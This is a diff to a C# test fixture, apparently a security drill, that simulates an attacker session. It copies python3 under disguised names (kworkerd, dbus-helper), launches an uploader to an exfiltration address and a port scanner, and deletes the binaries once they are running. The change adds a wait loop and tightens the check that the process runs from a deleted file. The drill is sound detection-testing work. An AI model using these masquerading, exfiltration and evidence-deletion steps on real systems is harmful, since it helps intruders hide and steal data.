@@ -184,9 +184,13 @@ internal sealed class DrillScene : IDisposable
             $"mkdir -p {DropDir}",
             $"cp /usr/bin/python3 {DropDir}/kworkerd",
             $"cp /usr/bin/python3 {DropDir}/dbus-helper",
-            $"PYTHONHOME=/usr {DropDir}/kworkerd {Dir}/uploader.py {ExfilIp} {ExfilPort} 300000 </dev/null >/dev/null 2>&1 & echo DROPPER=$!",
-            $"PYTHONHOME=/usr {DropDir}/dbus-helper {Dir}/scanner.py {ScanTarget} 20 1000 </dev/null >/dev/null 2>&1 & echo SCANNER=$!",
-            "sleep 1",
+            $"PYTHONHOME=/usr {DropDir}/kworkerd {Dir}/uploader.py {ExfilIp} {ExfilPort} 300000 </dev/null >/dev/null 2>&1 & d=$!",
+            "echo DROPPER=$d",
+            $"PYTHONHOME=/usr {DropDir}/dbus-helper {Dir}/scanner.py {ScanTarget} 20 1000 </dev/null >/dev/null 2>&1 & s=$!",
+            "echo SCANNER=$s",
+            // The files go once both programs run from them (their exec is done), at most 10 s on.
+            $"for i in $(seq 200); do [ \"$(readlink /proc/$d/exe)\" = {DropDir}/kworkerd ] "
+                + $"&& [ \"$(readlink /proc/$s/exe)\" = {DropDir}/dbus-helper ] && break; sleep 0.05; done",
             $"rm -f {DropDir}/kworkerd {DropDir}/dbus-helper",
             "echo DROPPED",
             "sleep 600");
@@ -201,7 +205,8 @@ internal sealed class DrillScene : IDisposable
             else if (line == "DROPPED") break;
         }
         Assert.True(DropperPid > 0 && ScannerPid > 0, "the attacker's session did not start both programs: " + File.ReadAllText(SshdLog));
-        Assert.EndsWith("(deleted)", new FileInfo($"/proc/{DropperPid}/exe").LinkTarget);
+        string? exe = new FileInfo($"/proc/{DropperPid}/exe").LinkTarget;
+        Assert.True(exe?.EndsWith("(deleted)", StringComparison.Ordinal) == true, $"the dropper {DropperPid} runs {exe ?? "no more"}");
     }
 
     /// <summary>The burst on port 22: connections held open pre-auth from the attacker.</summary>
